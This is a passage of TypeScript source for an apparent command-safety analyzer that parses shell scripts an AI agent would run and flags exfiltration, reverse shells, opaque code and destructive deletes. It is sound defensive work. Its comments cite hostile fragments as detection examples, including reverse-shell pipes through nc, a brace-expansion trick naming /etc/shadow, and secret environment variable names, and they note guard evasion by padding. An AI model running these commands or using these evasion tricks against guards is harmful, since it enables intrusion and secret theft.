import sh, { type ShNode } from 'mvdan-sh';
import { lookupTable } from '../../../lib/lookup-table.ts';
import { memoizeText } from '../../../lib/text-memo.ts';
import {
  type CatalogueContext,
  DEFAULT_CATALOGUE_CONTEXT,
  judgeArgv as judgeCatalogue,
  judgeWindowsCommandLine,
} from '../catalogue/index.ts';
import { type WebRequest, windowsGrammar } from '../catalogue/windows-command.ts';
import type { Finding } from '../codes.ts';
import type { Step } from '../effects.ts';
import { DEFAULT_EXECUTION_SETTINGS, type ExecutionSettings } from '../execution.ts';
import { judgeGuards } from '../registry/guards.ts';
import { sensitiveFileKind } from './egress/content.ts';
import {
  analyzeHost,
  analyzeUrl,
  contentFindings,
  DEFAULT_EGRESS_SETTINGS,
  type EgressSettings,
  isTrustedHost,
} from './egress.ts';
import { judgeNetworkCommand, NETWORK_TOOLS, type ToolInput, type ToolWord } from './network-tools.ts';
import {
  autoRunCommands,
  classifyPath,
  DEFAULT_PATH_CONTEXT,
  describePathClass,
  isCatastrophicDeleteTarget,
  normalizePath,
  type PathContext,
} from './paths.ts';
import { runLater } from './run-later.ts';
import { judgeContainerRun, judgeCtrRun } from './shell/containers.ts';
import { frameworkCode, judgeDatabaseCode } from './shell/db-code.ts';
import { applyFilter, echoOutput, interpretEscapes, MAX_DECODED, printfOutput } from './shell/decode.ts';
import { analyzeInlineCode, languageOf } from './shell/inline-code.ts';
import { printedSecret, secretInVariable, sendsSecretAway } from './shell/secret-variables.ts';
import { stepOf, unknownProgram } from './shell/steps.ts';
import { judgeGoEnvironment, judgeSupplyChain } from './shell/supply-chain.ts';
import { readSimpleScript, type SimpleStatement, type SimpleWord, STRUCTURAL } from './shell-simple.ts';

// mvdan/sh is the parser behind shfmt. Its GopherJS build (`mvdan-sh`) is synchronous and
// returns the full syntax tree; the WASM build (`sh-syntax`) instantiates a fresh module per
// call (~9 ms) and serialises commands without their words, so it cannot be walked.
const { syntax } = sh;
const parser = syntax.NewParser();
const splitBraces = (syntax as unknown as { SplitBraces(word: ShNode): ShNode }).SplitBraces;

/**
 * Budgets (verdict README, "Budgets"). A script above PARSE_LIMIT is read by the linear word
 * splitter, which resolves no expansion, so an unknown word in command position there is opaque.
 * Past the other limits the command is refused as too complex to resolve: a guard that gave up
 * silently would be walked around by padding.
 */
const PARSE_LIMIT = 32 * 1024;
/** Characters handed to the parser in one analysis, nested scripts included. */
const PARSE_BUDGET = 256 * 1024;
/**
 * Backquotes in one script handed to the parser. Each pair is a nested parse and walk in the
 * parser's runtime, at about 0.1 ms: 15,000 of them (30 KB) held the event loop 1.7 s. Past this,
 * the linear reader judges the script, as past PARSE_LIMIT.
 */
const MAX_BACKQUOTES = 512;
/**
 * Quote characters in one script handed to the parser: a word of thousands of quoted pieces
 * (`'\''` repeated) costs its runtime ~25 µs a character, 0.76 s at 32 KiB. Past this, the linear
 * reader judges the script.
 */
const MAX_QUOTES = 2048;

function backquotes(script: string): number {
  let n = 0;
  for (let at = script.indexOf('`'); at >= 0 && n <= MAX_BACKQUOTES; at = script.indexOf('`', at + 1)) n++;
  return n;
}

function quotes(script: string): number {
  let n = 0;
  for (let i = 0; i < script.length && n <= MAX_QUOTES; i++) {
    const c = script.charCodeAt(i);
    if (c === 39 || c === 34) n++;
  }
  return n;
}
/** How deep `bash -c`, `eval`, decoders, functions and inline interpreters may nest. */
const MAX_DEPTH = 8;
/** Simple commands judged in one analysis (loops and functions are walked again per item). */
const MAX_COMMANDS = 4000;
/** Fields one word may expand to (brace expansion), and items a loop or xargs is judged with. */
const MAX_FIELDS = 256;
const MAX_ITEMS = 32;

export interface ShellContext {
  egress: EgressSettings;
  /** Home and the agent's workspace: what a wipe is judged against. */
  paths: PathContext;
  /** Where relative paths resolve now: the workspace, until a `cd`. */
  cwd: PathContext;
  /** The account's home and workspace, when the payload's `cwd` moved the working tree elsewhere. */
  configured: PathContext;
  catalogue: CatalogueContext;
  execution: ExecutionSettings;
  /**
   * Files written earlier in the same command line, by normalised path: what a later
   * `sh file`, `./file`, `source file` or `python file` would run (see `written`).
   */
  written: Map<string, Stream>;
  /** Symbolic links made earlier in the command line (`ln -s /home/agent h`): link → target. */
  links: Map<string, string>;
  /** Files holding secrets that `git add` staged earlier in the command line. */
  staged: string[];
  /** The branch `git checkout` or `git switch` made current earlier in the command line. */
  branch?: string;
  /** Descriptors opened for reading earlier in the command line (`exec 3<<<'…'`). */
  fds?: Map<string, Stream>;
  /** The directory stack of `pushd`, most recent first (shared by the walks of one command). */
  dirs?: string[];
}

/** Scripts written within one command line that are remembered; more are taken as unknown. */
const MAX_WRITTEN_FILES = 64;

/** One field of a command after expansion: the text the program would receive, when knowable. */
interface Field {
  text: string;
  /** Part of the field comes from an expansion whose value is not known. */
  dynamic: boolean;
  /** Files that a command substitution in this field reads. */
  reads?: string[];
  /** What the unknown part is: the output of a fetch, of a decoder, of a program. */
  opaque?: string;
  /**
   * The unknown part is an unknown variable, fetched data or decoded data: in command position
   * that is opaque code. (A substitution that computes a path or reads a local file names a
   * program on this machine instead.)
   */
  codeLike?: boolean;
  /** How the field was resolved (`$X`, `an alias`, `base64 -d`…), for messages. */
  via?: string;
  /** The field carries data that must not leave (see Stream.sensitive). */
  sensitive?: string;
  /** The commands a substitution in the field runs (see Stream.from). */
  from?: { name: string; args: string[] }[];
  /** A process substitution `<(…)`: what reading the file it names gives. */
  proc?: Stream;
  /**
   * The text before backslashes were removed, where it differs: cmd and PowerShell keep
   * `C:\Windows\System32` whole, a POSIX shell would not.
   */
  raw?: string;
}

/** What a command writes to its standard output, as far as it is known. */
interface Stream {
  literal?: string;
  files?: string[];
  /** The output of a network fetch: a URL or a host. */
  fetched?: { url?: string; host?: string; tool: string };
  /** Decoded or generated data that is not literal. */
  unknown?: string;
  /** The unknown data comes out of a decoder (`base64 -d`, `xxd -r`, `rev`, `tr`…). */
  decoded?: boolean;
  /** An interactive shell's output (`sh -i | nc …` is a reverse shell). */
  shell?: boolean;
  /** A network connection's output (`nc host 1 | sh` is a reverse shell). */
  socket?: string;
  /** What the data holds that must not leave: `the process environment` (secrets live there). */
  sensitive?: string;
  /** The command that produced it, and what that command read. */
  producer?: { words: Field[]; stdin?: Stream };
  /** A saved `terraform plan -destroy`: applying it destroys what the configuration manages. */
  destroyPlan?: boolean;
  /** `find` results: its roots, and whether a test narrows them. */
  found?: { roots: Field[]; narrowed: boolean };
}

interface Value {
  text: string;
  known: boolean;
  /** A name reference (`declare -n`): the variable whose value this one reads. */
  ref?: string;
  /** An array: `"${a[@]}"` gives its words as separate fields. */
  array?: boolean;
  /** An array's elements, when all are known: `${a[1]}` picks one. */
  items?: string[];
  reads?: string[];
  opaque?: string;
  codeLike?: boolean;
}

interface Scope {
  /** Created on first write: most commands assign nothing. */
  vars?: Map<string, Value>;
  aliases?: Map<string, string>;
  functions?: Map<string, ShNode>;
  positional: Field[];
  /** `set -- …` gave the positional parameters values, so `$@` is known at the top level too. */
  positionalSet?: boolean;
}

interface Walk {
  ctx: ShellContext;
  findings: Finding[];
  /** Each program run, reduced to its effects (shared by the walks of one command line). */
  steps: Step[];
  depth: number;
  scope: Scope;
  budget: { commands: number; parsed: number; exhausted: boolean };
}

// Redirection operators of mvdan.cc/sh/v3/syntax.RedirOperator.
const REDIR_OUT = new Set([54, 55, 59, 60, 64, 65]);
const REDIR_IN = 56;
/** `=~` in `[[ … ]]`. */
const TEST_REMATCH = 112;
/** `<&N`: standard input from descriptor N. */
const REDIR_DUP_IN = 58;
const REDIR_HEREDOC = new Set([61, 62]);
const REDIR_HERESTRING = 63;
const PIPE_OPS = new Set([12, 13]);
// Parameter expansion operators (syntax.ParExpOperator).
const PAR = {
  altUnset: 68,
  alt: 69,
  defUnset: 70,
  def: 71,
  errUnset: 72,
  err: 73,
  assignUnset: 74,
  assign: 75,
  shortSuffix: 76,
  longSuffix: 77,
  shortPrefix: 78,
  longPrefix: 79,
  upperFirst: 80,
  upperAll: 81,
  lowerFirst: 82,
  lowerAll: 83,
  transform: 84,
};

const DEFAULT_IFS = ' \t\n';

function nodeType(node: unknown): string {
  return node ? syntax.NodeType(node as ShNode) : '';
}

function list(value: unknown): ShNode[] {
  return Array.isArray(value) ? (value as ShNode[]) : [];
}

function litValue(node: unknown): string {
  return String((node as ShNode | undefined)?.['Value'] ?? '');
}

function baseName(word: string): string {
  const slash = Math.max(word.lastIndexOf('/'), word.lastIndexOf('\\'));
  const base = slash >= 0 ? word.slice(slash + 1) : word;
  return base.length > 4 && base.charCodeAt(base.length - 4) === 46 ? base.replace(/\.exe$/i, '') : base;
}

function describeTarget(target: string): string {
  return target.length > 60 ? `${target.slice(0, 57)}...` : target;
}

function joinFields(fields: readonly Field[]): string {
  return fields.map((f) => f.text).join(' ');
}

// ------------------------------------------------------------------------------ findings

function push(walk: Walk, code: Finding['code'], message: string, location?: string): void {
  walk.findings.push(location === undefined ? { code, message } : { code, message, location });
}

function destructive(walk: Walk, message: string, location: string): void {
  push(walk, 'DEST_MUTATION', message, location);
}

/** Code a shell or interpreter would run that cannot be resolved: refused unless the account allows it. */
function opaque(walk: Walk, what: string): void {
  if (walk.ctx.execution.allow_opaque) return;
  push(
    walk,
    'POLICY_VIOLATION',
    `cannot tell what would run: ${what}; opaque code is refused unless the account allows it (PUT /v1/settings/execution)`,
    'opaque code',
  );
}

function overBudget(walk: Walk, what: string): void {
  if (walk.budget.exhausted) return;
  walk.budget.exhausted = true;
  push(
    walk,
    'POLICY_VIOLATION',
    `the command is too complex to resolve within the analysis budget (${what})`,
  );
}

function reverseShell(walk: Walk, how: string): void {
  push(walk, 'EXFILTRATION_BLOCKED', `reverse shell: ${how}`, 'network');
}

// ------------------------------------------------------------------------------ scopes

function newScope(positional: Field[] = [], parent?: Scope): Scope {
  const scope: Scope = { positional };
  if (parent?.vars) scope.vars = new Map(parent.vars);
  if (parent?.aliases) scope.aliases = new Map(parent.aliases);
  if (parent?.functions) scope.functions = new Map(parent.functions);
  return scope;
}

function child(walk: Walk, scope?: Scope): Walk | undefined {
  if (walk.depth + 1 > MAX_DEPTH) {
    overBudget(walk, `more than ${MAX_DEPTH} levels of nested code`);
    return undefined;
  }
  return { ...walk, depth: walk.depth + 1, scope: scope ?? walk.scope };
}

function lookup(walk: Walk, name: string, hops = 0): Value | undefined {
  const value = walk.scope.vars?.get(name);
  if (value?.ref !== undefined && hops < 8) return lookup(walk, value.ref, hops + 1);
  if (value !== undefined) return value;
  if (/^\d$/.test(name)) {
    const field = walk.scope.positional[Number(name)];
    if (field) return { text: field.text, known: !field.dynamic };
    // A shell.exec command line is run with no arguments: at the top level `$1` is empty.
    return walk.depth === 0 && !walk.scope.positionalSet ? { text: '', known: true } : undefined;
  }
  if (name === '@' || name === '*') {
    const rest = walk.scope.positional.slice(1);
    const known = rest.every((f) => !f.dynamic);
    // "$@" gives each parameter as a field of its own, like an array.
    return name === '@' && known
      ? { text: joinFields(rest), known, array: true, items: rest.map((f) => f.text) }
      : { text: joinFields(rest), known };
  }
  if (name === '#') return { text: String(Math.max(0, walk.scope.positional.length - 1)), known: true };
  switch (name) {
    case 'HOME':
      return { text: walk.ctx.paths.home, known: true };
    case 'PWD':
      return { text: walk.ctx.cwd.workspace, known: true };
    case 'IFS':
      return { text: DEFAULT_IFS, known: true };
    case 'PATH':
      return { text: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', known: true };
    case 'SHELL':
      return { text: '/bin/sh', known: true };
    case 'USER':
    case 'LOGNAME':
      return { text: baseName(walk.ctx.paths.home), known: true };
    default:
      return undefined;
  }
}

function assign(walk: Walk, name: string, value: Value): void {
  walk.scope.vars ??= new Map();
  if (walk.scope.vars.size < 4096) walk.scope.vars.set(name, value);
}

function ifsOf(walk: Walk): string {
  const ifs = walk.scope.vars?.get('IFS');
  return ifs?.known ? ifs.text : DEFAULT_IFS;
}

// ------------------------------------------------------------------------------ expansion

/** A piece of a word before field splitting. */
interface Piece {
  text: string;
  /** An unquoted expansion: its text is split into fields at IFS characters. */
  split: boolean;
  dynamic: boolean;
  reads?: string[];
  opaque?: string;
  codeLike?: boolean;
  via?: string;
  /** An array's elements joined with NUL: `"${a[@]}"` splits there, not at IFS. */
  items?: boolean;
  /** The source text before quote removal, where it differs (`C:\Windows` unquoted). */
  raw?: string;
  sensitive?: string;
  from?: { name: string; args: string[] }[];
  proc?: Stream;
}

function markField(field: Field, piece: Piece): void {
  if (piece.proc) field.proc = piece.proc;
  if (piece.dynamic) field.dynamic = true;
  if (piece.reads) field.reads = [...(field.reads ?? []), ...piece.reads];
  if (piece.opaque) field.opaque = piece.opaque;
  if (piece.codeLike) field.codeLike = true;
  if (piece.sensitive) field.sensitive = piece.sensitive;
  if (piece.from) field.from = [...(field.from ?? []), ...piece.from];
  if (piece.via) field.via = field.via ? `${field.via}, ${piece.via}` : piece.via;
}

/** Fields of a word: pieces joined, unquoted expansions split at IFS characters. */
function fieldsOf(pieces: readonly Piece[], walk: Walk): Field[] {
  // Most words are one literal piece: one field, nothing to split.
  if (pieces.length === 1 && !pieces[0]!.split) {
    const only = pieces[0]!;
    const field: Field = { text: only.text, dynamic: false };
    markField(field, only);
    if (only.raw !== undefined) field.raw = only.raw;
    return [field];
  }
  const ifs = ifsOf(walk);
  const fields: Field[] = [];
  let current: Field | undefined;
  // A quoted or literal piece makes a field even when empty: `""` is an argument.
  let anchored = false;
  for (const piece of pieces) {
    if (!piece.split || ifs === '' || piece.text === '') {
      anchored = true;
      current ??= { text: '', dynamic: false };
      markField(current, piece);
      const before = current.text;
      current.text += piece.text;
      if (piece.raw !== undefined || current.raw !== undefined) {
        current.raw = (current.raw ?? before) + (piece.raw ?? piece.text);
      }
      continue;
    }
    let chunk = '';
    const separators = piece.items ? '\0' : ifs;
    for (const ch of piece.text) {
      if (separators.includes(ch)) {
        if (chunk !== '' || (current !== undefined && current.text !== '')) {
          current ??= { text: '', dynamic: false };
          current.text += chunk;
          markField(current, piece);
          fields.push(current);
          current = undefined;
        }
        chunk = '';
      } else {
        chunk += ch;
      }
    }
    current ??= { text: '', dynamic: false };
    current.text += chunk;
    markField(current, piece);
  }
  if (current !== undefined && (current.text !== '' || current.dynamic || anchored)) fields.push(current);
  return fields.length > MAX_FIELDS ? fields.slice(0, MAX_FIELDS) : fields;
}

/** Unquoted literal text: a backslash quotes the next character; a backslash-newline vanishes. */
function unescapeUnquoted(text: string): string {
  return text.includes('\\') ? text.replace(/\\\n/g, '').replace(/\\(.)/gs, '$1') : text;
}

/** Inside double quotes a backslash quotes only `$`, backtick, `"`, `\` and newline. */
function unescapeDouble(text: string): string {
  return text.includes('\\') ? text.replace(/\\\n/g, '').replace(/\\([$`"\\])/g, '$1') : text;
}

function partPieces(part: ShNode, walk: Walk, quoted: boolean, out: Piece[]): void {
  switch (nodeType(part)) {
    case 'Lit': {
      const value = litValue(part);
      const text = quoted ? unescapeDouble(value) : unescapeUnquoted(value);
      out.push(
        text === value
          ? { text, split: false, dynamic: false }
          : { text, split: false, dynamic: false, raw: value },
      );
      return;
    }
    case 'SglQuoted': {
      const value = litValue(part);
      out.push(
        part['Dollar']
          ? { text: interpretEscapes(value), split: false, dynamic: false, via: "$'…' escapes" }
          : { text: value, split: false, dynamic: false },
      );
      return;
    }
    case 'DblQuoted':
      out.push({ text: '', split: false, dynamic: false });
      for (const inner of list(part['Parts'])) partPieces(inner, walk, true, out);
      return;
    case 'ParamExp': {
      const piece = paramPiece(part, walk, quoted);
      // cmd and PowerShell read `$env:X`, `$true` themselves: keep the source for them.
      const name = litValue(part['Param']);
      if (!part['Exp'] && !part['Repl'] && !part['Slice'] && !part['Length'] && !part['Excl']) {
        piece.raw = part['Short'] ? `$${name}` : `\${${name}}`;
      }
      out.push(piece);
      return;
    }
    case 'CmdSubst': {
      const output = runSubstitution(list(part['Stmts']), walk);
      out.push(substitutionPiece(output, quoted));
      return;
    }
    case 'ProcSubst': {
      const output = runSubstitution(list(part['Stmts']), walk);
      out.push({
        text: '',
        split: false,
        dynamic: true,
        ...(output?.files ? { reads: output.files } : {}),
        opaque: describeStream(output) ?? 'the output of a process substitution',
        codeLike: output?.fetched !== undefined || output?.decoded === true,
        proc: output ?? { unknown: 'the output of a process substitution' },
      });
      return;
    }
    case 'ArithmExp':
      out.push({ text: '0', split: !quoted, dynamic: true });
      return;
    case 'ExtGlob':
      out.push({
        text: String(part['Pattern'] ? litValue(part['Pattern']) : '*'),
        split: false,
        dynamic: false,
      });
      return;
    default:
      out.push({ text: '', split: false, dynamic: true });
  }
}

function substitutionPiece(output: Stream | undefined, quoted: boolean): Piece {
  if (output?.literal !== undefined) {
    return {
      text: output.literal.replace(/\n+$/, ''),
      split: !quoted,
      dynamic: false,
      via: 'a command substitution',
    };
  }
  const what = describeStream(output);
  return {
    text: '',
    split: !quoted,
    dynamic: true,
    ...(output?.files && output.files.length > 0 ? { reads: output.files } : {}),
    ...(what ? { opaque: what } : {}),
    ...(output?.fetched !== undefined || output?.decoded ? { codeLike: true } : {}),
    ...(output?.sensitive ? { sensitive: output.sensitive } : {}),
    ...(output?.producer ? { from: producersOf(output)! } : {}),
  };
}

function describeStream(stream: Stream | undefined): string | undefined {
  if (!stream) return undefined;
  if (stream.fetched)
    return `what ${stream.fetched.tool} fetches from ${stream.fetched.url ?? stream.fetched.host ?? 'the network'}`;
  if (stream.unknown) return stream.unknown;
  if (stream.files && stream.files.length > 0)
    return `the contents of ${describeTarget(stream.files.join(' '))}`;
  if (stream.socket) return `what ${stream.socket} receives`;
  return undefined;
}

function applyCase(text: string, op: number): string {
  switch (op) {
    case PAR.upperFirst:
      return text.slice(0, 1).toUpperCase() + text.slice(1);
    case PAR.upperAll:
      return text.toUpperCase();
    case PAR.lowerFirst:
      return text.slice(0, 1).toLowerCase() + text.slice(1);
    default:
      return text.toLowerCase();
  }
}

/** `${X#pat}` and friends for literal patterns; a glob pattern makes the result unknown. */
function trim(text: string, pattern: string, op: number): string | undefined {
  if (/[*?[]/.test(pattern)) {
    if (/\[/.test(pattern) || text.length > 4096) return undefined;
    // `${PWD%/*}`, `${f##*/}`: the shortest or longest prefix or suffix the glob matches.
    const source = pattern
      .replace(/[.+^${}()|\\]/g, '\\$&')
      .replace(/\*/g, '[\\s\\S]*')
      .replace(/\?/g, '[\\s\\S]');
    const whole = new RegExp(`^${source}$`);
    const prefix = op === PAR.shortPrefix || op === PAR.longPrefix;
    const longest = op === PAR.longPrefix || op === PAR.longSuffix;
    const cuts = [...Array(text.length + 1).keys()];
    if (longest === prefix) cuts.reverse();
    for (const cut of cuts) {
      const part = prefix ? text.slice(0, cut) : text.slice(cut);
      if (whole.test(part)) return prefix ? text.slice(cut) : text.slice(0, cut);
    }
    return text;
  }
  if ((op === PAR.shortPrefix || op === PAR.longPrefix) && text.startsWith(pattern))
    return text.slice(pattern.length);
  if ((op === PAR.shortSuffix || op === PAR.longSuffix) && text.endsWith(pattern))
    return text.slice(0, text.length - pattern.length);
  return text;
}

function wordString(word: ShNode | undefined, walk: Walk): Value {
  if (!word) return { text: '', known: true };
  const pieces: Piece[] = [];
  for (const part of list(word['Parts'])) partPieces(part, walk, true, pieces);
  return {
    text: pieces.map((p) => p.text).join(''),
    known: pieces.every((p) => !p.dynamic),
    ...(pieces.some((p) => p.reads) ? { reads: pieces.flatMap((p) => p.reads ?? []) } : {}),
    ...(pieces.find((p) => p.opaque)?.opaque ? { opaque: pieces.find((p) => p.opaque)!.opaque! } : {}),
    ...(pieces.some((p) => p.codeLike) ? { codeLike: true } : {}),
  };
}

/**
 * A variable the command line never set: its value is unknown, and in command position opaque.
 * `$AWS_SECRET_ACCESS_KEY`, `$CI_JOB_TOKEN`: what the environment keeps under such a name is a secret.
 */
function unknownVariable(name: string, split: boolean): Piece {
  return {
    text: '',
    split,
    dynamic: true,
    codeLike: true,
    opaque: `$${name}, whose value is unknown`,
    ...(secretInVariable(name) ? { sensitive: secretInVariable(name)! } : {}),
  };
}

function paramPiece(part: ShNode, walk: Walk, quoted: boolean): Piece {
  const name = litValue(part['Param']);
  let value = lookup(walk, name);
  if (part['Excl']) {
    // `${!X}`: the variable named by X's value.
    value = value?.known ? lookup(walk, value.text) : undefined;
  }
  const index = part['Index'] as ShNode | undefined;
  if (index && value !== undefined) value = indexed(value, index, walk);
  const exp = part['Exp'] as ShNode | undefined;
  const via = `$${name}`;
  if (part['Length']) return { text: String(value?.text.length ?? 0), split: false, dynamic: !value?.known };
  if (exp) {
    const op = Number(exp['Op']);
    const arg = () => wordString(exp['Word'] as ShNode | undefined, walk);
    const unsetOrNull = value === undefined || (value.known && value.text === '');
    const colon = op === PAR.def || op === PAR.alt || op === PAR.assign || op === PAR.err;
    const absent = colon ? unsetOrNull : value === undefined;
    if (op === PAR.def || op === PAR.defUnset || op === PAR.assign || op === PAR.assignUnset) {
      // An unknown variable may well be unset: its default is what an attacker hopes runs.
      if (absent || !value?.known) {
        const fallback = arg();
        if (op === PAR.assign || op === PAR.assignUnset) assign(walk, name, fallback);
        return { text: fallback.text, split: !quoted, dynamic: !fallback.known, via };
      }
    } else if (op === PAR.alt || op === PAR.altUnset) {
      if (absent) return { text: '', split: !quoted, dynamic: value === undefined ? false : !value.known };
      const alternative = arg();
      return { text: alternative.text, split: !quoted, dynamic: !alternative.known, via };
    } else if (op >= PAR.shortSuffix && op <= PAR.longPrefix) {
      const pattern = arg();
      const trimmed = value?.known && pattern.known ? trim(value.text, pattern.text, op) : undefined;
      if (trimmed !== undefined) return { text: trimmed, split: !quoted, dynamic: false, via };
      return { text: '', split: !quoted, dynamic: true };
    } else if (op >= PAR.upperFirst && op <= PAR.lowerAll) {
      if (value?.known) return { text: applyCase(value.text, op), split: !quoted, dynamic: false, via };
    } else if (op === PAR.transform) {
      // `${x@P}`, `${x@E}` expand escapes; `@U`, `@u`, `@L` change case; `@Q` quotes.
      const how = wordString(exp['Word'] as ShNode | undefined, walk).text;
      if (value?.known && /^[PEQULu]$/.test(how)) {
        const text =
          how === 'P' || how === 'E'
            ? interpretEscapes(value.text)
            : how === 'U'
              ? value.text.toUpperCase()
              : how === 'L'
                ? value.text.toLowerCase()
                : how === 'u'
                  ? value.text.slice(0, 1).toUpperCase() + value.text.slice(1)
                  : value.text;
        return { text, split: !quoted, dynamic: false, via };
      }
      return {
        text: '',
        split: !quoted,
        dynamic: true,
        codeLike: true,
        opaque: `\${${name}@${how}}, which is not resolved`,
      };
    }
  }
  if (part['Names']) {
    // `${!prefix*}`: the names of the variables that start with the prefix.
    const names = [...(walk.scope.vars?.keys() ?? [])].filter((n) => n.startsWith(name)).sort();
    return { text: names.join(' '), split: !quoted, dynamic: false };
  }
  const repl = part['Repl'] as ShNode | undefined;
  if (repl && value?.known) {
    const from = wordString(repl['Orig'] as ShNode | undefined, walk);
    const to = wordString(repl['With'] as ShNode | undefined, walk);
    // `${x/#/r}`, `${x/%/.bak}`: anchored at the start or the end.
    if (from.known && to.known && /^[#%]/.test(from.text) && !/[*?[]/.test(from.text)) {
      const anchor = from.text.slice(1);
      const text = from.text.startsWith('#')
        ? value.text.startsWith(anchor)
          ? to.text + value.text.slice(anchor.length)
          : value.text
        : value.text.endsWith(anchor)
          ? value.text.slice(0, value.text.length - anchor.length) + to.text
          : value.text;
      return { text, split: !quoted, dynamic: false, via };
    }
    if (from.known && to.known && !/[*?[]/.test(from.text) && from.text !== '') {
      const text = repl['All']
        ? value.text.split(from.text).join(to.text)
        : value.text.replace(from.text, to.text);
      return { text, split: !quoted, dynamic: false, via };
    }
    return { text: '', split: !quoted, dynamic: true };
  }
  const slice = part['Slice'] as ShNode | undefined;
  if (slice && value?.known) {
    const offset = Number(wordString(slice['Offset'] as ShNode | undefined, walk).text);
    const lengthNode = slice['Length'] as ShNode | undefined;
    const length = lengthNode ? Number(wordString(lengthNode, walk).text) : undefined;
    if (Number.isInteger(offset) && (length === undefined || Number.isInteger(length))) {
      const text = value.text.slice(offset, length === undefined ? undefined : offset + length);
      return { text, split: !quoted, dynamic: false, via };
    }
    return { text: '', split: !quoted, dynamic: true };
  }
  if (exp && (Number(exp['Op']) === PAR.err || Number(exp['Op']) === PAR.errUnset) && !value?.known) {
    // `${X:?}`: the shell stops when X is unset, so no empty value ever reaches the command.
    return { text: `\${${name}}`, split: false, dynamic: true };
  }
  if (value === undefined) return unknownVariable(name, !quoted);
  const known = value.known ? { via } : {};
  const whole = value.array === true && value.items !== undefined && part['Index'] != null && quoted;
  return {
    ...(whole ? { items: true } : {}),
    text: whole ? value.items!.join('\0') : value.text,
    split:
      !quoted ||
      (value.array === true && ((part['Index'] !== undefined && part['Index'] !== null) || name === '@')),
    dynamic: !value.known,
    ...(value.reads ? { reads: value.reads } : {}),
    ...(value.opaque ? { opaque: value.opaque } : {}),
    ...(value.codeLike ? { codeLike: true } : {}),
    ...(name === 'HOME' || name === 'PWD' ? {} : known),
  };
}

/** `${a[n]}`: one element of a known array (element 0 of a plain variable); `@` and `*` keep all. */
function indexed(value: Value, index: ShNode, walk: Walk): Value {
  const which = nodeType(index) === 'Word' ? wordString(index, walk) : { text: '', known: false };
  if (which.known && (which.text === '@' || which.text === '*')) return value;
  const n = Number(which.text);
  if (!which.known || !Number.isInteger(n)) return { text: '', known: false, codeLike: true };
  if (!value.known) return value;
  const items = value.items ?? (value.array ? undefined : [value.text]);
  if (items === undefined) return { text: '', known: false, codeLike: true };
  const item = items[n < 0 ? items.length + n : n];
  return item === undefined ? { text: '', known: true } : { text: item, known: true };
}

/**
 * A sequence expression as bash expands it: `{1..10}`, `{10..1..3}`, `{01..10}` (zero-padded to the
 * wider end), `{a..e}`, `{z..a..2}` (letters by character code). Undefined where bash leaves the
 * braces as written (`{a..10}`, `{ab..c}`); `tooMany` past `MAX_FIELDS` items.
 */
function braceSequence(from: string, to: string, by: string | undefined): string[] | 'tooMany' | undefined {
  const step = by === undefined ? 1 : Math.abs(Number(by));
  if (!Number.isInteger(step) || (by !== undefined && !/^[-+]?\d+$/.test(by))) return undefined;
  const stride = step === 0 ? 1 : step;
  const numeric = /^[-+]?\d+$/;
  const letter = /^[A-Za-z]$/;
  let a: number;
  let b: number;
  let show: (n: number) => string;
  if (numeric.test(from) && numeric.test(to)) {
    a = Number(from);
    b = Number(to);
    const padded = /^[-+]?0\d/.test(from) || /^[-+]?0\d/.test(to);
    const width = Math.max(from.replace(/^\+/, '').length, to.replace(/^\+/, '').length);
    show = (n) => {
      if (!padded) return String(n);
      const digits = String(Math.abs(n)).padStart(n < 0 ? width - 1 : width, '0');
      return n < 0 ? `-${digits}` : digits;
    };
  } else if (letter.test(from) && letter.test(to)) {
    a = from.charCodeAt(0);
    b = to.charCodeAt(0);
    show = (n) => String.fromCharCode(n);
  } else return undefined;
  if (!Number.isSafeInteger(a) || !Number.isSafeInteger(b)) return undefined;
  if (Math.floor(Math.abs(b - a) / stride) + 1 > MAX_FIELDS) return 'tooMany';
  const out: string[] = [];
  for (let n = a; a <= b ? n <= b : n >= b; n += a <= b ? stride : -stride) out.push(show(n));
  return out;
}

const literal = (text: string): ShNode => ({ Value: text, __lit: true }) as unknown as ShNode;

/**
 * The words brace expansion makes of `word`. Past `MAX_FIELDS` words, one word with `*` where
 * each brace stood: a path is then judged as the pattern it could be (`/e{a..z}{a..z}/shadow`
 * names /etc/shadow among 676 words), never as the braces written.
 */
function expandBraces(word: ShNode): ShNode[] {
  const hasBrace = list(word['Parts']).some((p) => nodeType(p) === 'Lit' && litValue(p).includes('{'));
  if (!hasBrace) return [word];
  const split = splitBraces(word);
  const parts = list(split['Parts']);
  const asPattern = (): ShNode[] => [
    {
      Parts: parts.map((part) => (nodeType(part) === 'BraceExp' ? literal('*') : part)),
      __word: true,
      __pattern: true,
    } as unknown as ShNode,
  ];
  let words: ShNode[][] = [[]];
  for (const part of parts) {
    if (nodeType(part) !== 'BraceExp') {
      for (const w of words) w.push(part);
      continue;
    }
    const elems = list(part['Elems']);
    let alternatives: ShNode[][];
    if (part['Sequence']) {
      const [from, to, by] = elems.map((e) => list(e['Parts']).map(litValue).join(''));
      const items = braceSequence(from ?? '', to ?? '', by);
      if (items === 'tooMany') return asPattern();
      // What bash leaves as written is judged as written.
      alternatives = (items ?? [`{${[from, to, by].filter((x) => x !== undefined).join('..')}}`]).map(
        (item) => [literal(item)],
      );
    } else alternatives = elems.map((e) => list(e['Parts']));
    const next: ShNode[][] = [];
    for (const w of words) for (const alt of alternatives) next.push([...w, ...alt]);
    if (next.length > MAX_FIELDS) return asPattern();
    words = next;
  }
  return words.map((parts) => ({ Parts: parts, __word: true }) as unknown as ShNode);
}

function expandWord(word: ShNode | undefined, walk: Walk): Field[] {
  if (!word) return [];
  const out: Field[] = [];
  const braced = expandBraces(word);
  for (const w of braced) {
    const pieces: Piece[] = [];
    for (const part of list(w['Parts'])) {
      if ((part as unknown as { __lit?: boolean }).__lit)
        pieces.push({ text: litValue(part), split: false, dynamic: false });
      else partPieces(part, walk, false, pieces);
    }
    const pattern = (w as unknown as { __pattern?: boolean }).__pattern;
    if ((braced.length > 1 || pattern) && pieces[0])
      pieces[0].via = pattern ? 'brace expansion, too many words: judged as a pattern' : 'brace expansion';
    out.push(...fieldsOf(pieces, walk));
  }
  return out;
}

function expandSimpleWord(word: SimpleWord, walk: Walk, split = true): Field[] {
  const pieces: Piece[] = word.parts.map((part) => {
    if ('lit' in part) return { text: part.lit, split: false, dynamic: false };
    const value = lookup(walk, part.param);
    if (value === undefined) return unknownVariable(part.param, split && !part.quoted);
    return {
      text: value.text,
      // "$@" gives each parameter as a field of its own, as in the parser walk.
      split: split && (!part.quoted || (part.param === '@' && value.array === true)),
      dynamic: !value.known,
      ...(value.reads ? { reads: value.reads } : {}),
